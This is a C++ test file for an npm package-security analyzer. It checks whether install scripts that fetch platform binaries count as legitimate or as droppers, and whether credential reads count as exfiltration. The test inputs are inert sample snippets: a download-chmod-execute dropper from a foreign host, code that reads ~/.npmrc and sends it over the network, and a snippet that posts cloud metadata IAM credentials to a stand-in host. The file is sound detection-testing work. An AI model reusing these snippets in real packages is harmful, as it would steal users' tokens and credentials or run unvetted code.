// The own-platform-binary class (analyzer/engine/own_binary.h) and the evidence rules that keep
// popular packages below high: lexical evidence counts where it is (a path named in one module of
// a bundle does not join network code in another), a '$' in a JavaScript name is no shell
// expansion, the cloud metadata service is a credential source, and threat messages carry the
// file and line of each piece of evidence. Snippets are hand-written and inert.
#include <catch2/catch.hpp>

#include <algorithm>

#include "analyzer/engine/analyzer.h"
#include "analyzer/engine/own_binary.h"
#include "tests/support/engine_samples.h"

using namespace tarsier;
using test::has;

namespace {

const char* k_manifest = R"({"name":"nimblecc","version":"1.2.3",
  "scripts":{"postinstall":"node install.js"},
  "optionalDependencies":{"@nimblecc/linux-x64":"1.2.3","@nimblecc/darwin-arm64":"1.2.3"}})";

// The shape of a compiler's installer: platform map, download from the registry, write, chmod,
// run the binary to check its version.
std::string installer(const std::string& url_line) {
  return "const https = require('https');\n"
         "const fs = require('fs');\n"
         "const child_process = require('child_process');\n"
         "// See https://docs.example.invalid/install for the fallback order.\n"
         "const map = { 'linux x64': '@nimblecc/linux-x64', 'darwin arm64': "
         "'@nimblecc/darwin-arm64' };\n"
         "const pkg = map[process.platform + ' ' + process.arch];\n"
         "function fetch(url) {\n"
         "  return new Promise((ok, no) => https.get(url, (res) => {\n"
         "    const chunks = []; res.on('data', (c) => chunks.push(c));\n"
         "    res.on('end', () => ok(Buffer.concat(chunks)));\n"
         "  }).on('error', no));\n"
         "}\n"
         "async function main() {\n" +
         url_line +
         "  fs.writeFileSync('bin/nimblecc', await fetch(url));\n"
         "  fs.chmodSync('bin/nimblecc', 0o755);\n"
         "  child_process.execFileSync('bin/nimblecc', ['--version']);\n"
         "}\n"
         "main();\n";
}

PackageAnalysis analyse(const std::string& install_js, const std::string& archive_url,
                        const char* manifest = k_manifest) {
  PackageRef ref = test::sample_ref("nimblecc", "1.2.3");
  ref.resolved = archive_url;
  std::vector<ArchiveEntry> files = {{"package.json", manifest}, {"install.js", install_js}};
  return test::shared_analyzer().analyze(ref, files, {});
}

const std::string k_registry = "https://registry.example.test/nimblecc/-/nimblecc-1.2.3.tgz";
const std::string k_own_url =
    "  const url = `https://registry.example.test/${pkg}/-/${pkg.split('/')[1]}-1.2.3.tgz`;\n";

}  // namespace

TEST_CASE("an install script fetching its own platform binary from its registry is medium",
          "[engine][threats][own-binary]") {
  auto a = analyse(installer(k_own_url), k_registry);
  CHECK(has(a.threats, "own-platform-binary"));
  CHECK_FALSE(has(a.threats, "dropper"));
  CHECK(a.risk == Risk::medium);
}

TEST_CASE("a platform binary fetched from elsewhere, computed or hidden stays a dropper",
          "[engine][threats][own-binary]") {
  SECTION("another host") {
    auto a =
        analyse(installer("  const url = `https://cdn.example.invalid/${pkg}/-/b-1.2.3.tgz`;\n"),
                k_registry);
    CHECK(has(a.threats, "dropper"));
    CHECK(a.risk == Risk::critical);
  }
  SECTION("a computed host") {
    auto a =
        analyse(installer("  const url = `https://${process.env.MIRROR}/${pkg}/-/b-1.2.3.tgz`;\n"),
                k_registry);
    CHECK(has(a.threats, "dropper"));
  }
  SECTION("the archive came from another registry than the one in the script") {
    auto a =
        analyse(installer(k_own_url), "https://mirror.example.test/nimblecc/-/nimblecc-1.2.3.tgz");
    CHECK(has(a.threats, "dropper"));
  }
  SECTION("a name that is not one of its optional dependencies") {
    auto a = analyse(installer(k_own_url), k_registry,
                     R"({"name":"nimblecc","version":"1.2.3",
                         "scripts":{"postinstall":"node install.js"},
                         "optionalDependencies":{"fsevents":"2.0.0"}})");
    CHECK(has(a.threats, "dropper"));
  }
  SECTION("the URL hidden in an encoded constant") {
    auto a = analyse(installer("  const url = Buffer.from('aHR0cHM6Ly9jZG4uZXhhbXBsZS5pbnZhbGlk', "
                               "'base64').toString() + '/' + pkg + '/-/https://"
                               "registry.example.test/x';\n"),
                     k_registry);
    CHECK(has(a.threats, "dropper"));
  }
}

TEST_CASE("fetches_own_binary reads URLs in code, not in comments", "[engine][own-binary]") {
  std::set<std::string> names = {"@nimblecc/linux-x64"};
  std::string base = "const p = '@nimblecc/linux-x64';\n";
  CHECK(fetches_own_binary(base + "get(`https://registry.example.test/${p}/-/x.tgz`);",
                           "registry.example.test", names));
  CHECK(fetches_own_binary(base + "// https://elsewhere.example.invalid/notes\n"
                                  "get(`https://registry.example.test/${p}/-/x.tgz`);",
                           "registry.example.test", names));
  CHECK_FALSE(fetches_own_binary(base + "get('https://registry.example.test/' + p + '/x.tgz');",
                                 "registry.example.test", names));  // not a tarball path
  CHECK_FALSE(fetches_own_binary(base + "get('https://registry.example.test' + '.evil.invalid/"
                                        "-/x');",
                                 "registry.example.test", names));
  CHECK_FALSE(fetches_own_binary("get(`https://registry.example.test/a/-/x.tgz`);",
                                 "registry.example.test", names));  // names no dependency
}

namespace {

std::string filler(size_t n) {
  std::string out;
  int i = 0;
  while (out.size() < n)
    out += "function f" + std::to_string(i++) + "(a) { return a * 2 + 1; }\n";
  return out;
}

PackageAnalysis run_one(const std::string& path, const std::string& text) {
  std::vector<ArchiveEntry> files = {{"package.json", R"({"name":"shape","version":"1.0.0"})"},
                                     {path, text}};
  return test::shared_analyzer().analyze(test::sample_ref("shape"), files, {});
}

}  // namespace

TEST_CASE("a credential path named far from network code is no exfiltration",
          "[engine][threats][own-binary]") {
  std::string browsers =
      "const paths = { win: 'C:/Program Files/BraveSoftware/Brave-Browser/Application/brave.exe',"
      " mac: '/Applications/Google Chrome.app' };\n"
      "exports.browser = () => paths[process.platform];\n";
  std::string network =
      "const https = require('https');\n"
      "exports.send = (d) => https.request({ host: require('os').hostname() })"
      ".end(d);\n";
  SECTION("in different modules of one bundle") {
    auto a = run_one("dist/bundle.js", browsers + filler(6000) + network);
    CHECK(a.risk < Risk::high);
  }
  SECTION("read and sent together") {
    auto a = run_one("lib/steal.js",
                     "const fs = require('fs');\n"
                     "const data = fs.readFileSync(process.env.HOME + '/.npmrc', 'utf8');\n" +
                         network + "exports.send(data);\n");
    CHECK(has(a.threats, "exfiltration"));
    CHECK(a.risk >= Risk::high);
  }
}

TEST_CASE("a '$' in a JavaScript name is no environment read", "[engine][lexical]") {
  auto a =
      run_one("lib/zip.js", "let password = getOptionValue$1(entry, options, OPTION_PASSWORD);\n");
  CHECK(std::none_of(a.findings.begin(), a.findings.end(),
                     [](const Finding& f) { return f.rule == "sensitive-env-name"; }));
  auto b = run_one("run.sh.js", "const cmd = 'echo ${NPM_TOKEN}';\n");
  CHECK(std::any_of(b.findings.begin(), b.findings.end(),
                    [](const Finding& f) { return f.rule == "sensitive-env-name"; }));
}

TEST_CASE("the cloud metadata service is a credential source, not a destination",
          "[engine][threats]") {
  std::string sdk =
      "const http = require('http');\n"
      "exports.credentials = () => http.get('http://169.254.169.254/latest/"
      "meta-data/iam/security-credentials/', { headers: { 'User-Agent': 'sdk' } });\n";
  auto a = run_one("lib/credentials.js", sdk);
  CHECK(a.risk < Risk::high);
  auto b = run_one("lib/credentials.js",
                   sdk +
                       "http.request({ host: 'collect.example.invalid' }).end(JSON.stringify("
                       "exports.credentials()) + 'https://pastebin.com/raw/x');\n");
  CHECK(has(b.threats, "exfiltration"));
  CHECK(b.risk >= Risk::high);
}

TEST_CASE("threat messages carry the file and line of each piece of evidence",
          "[engine][threats]") {
  auto a = analyse(installer("  const url = `https://cdn.example.invalid/${pkg}/-/b-1.2.3.tgz`;\n"),
                   k_registry);
  auto threat = std::find_if(a.findings.begin(), a.findings.end(), [](const Finding& f) {
    return f.rule == "threat-dropper" && f.file == "install.js";
  });
  REQUIRE(threat != a.findings.end());
  CHECK(threat->message.find("js-fs-write (install.js:15)") != std::string::npos);
  CHECK(threat->line > 0);
}
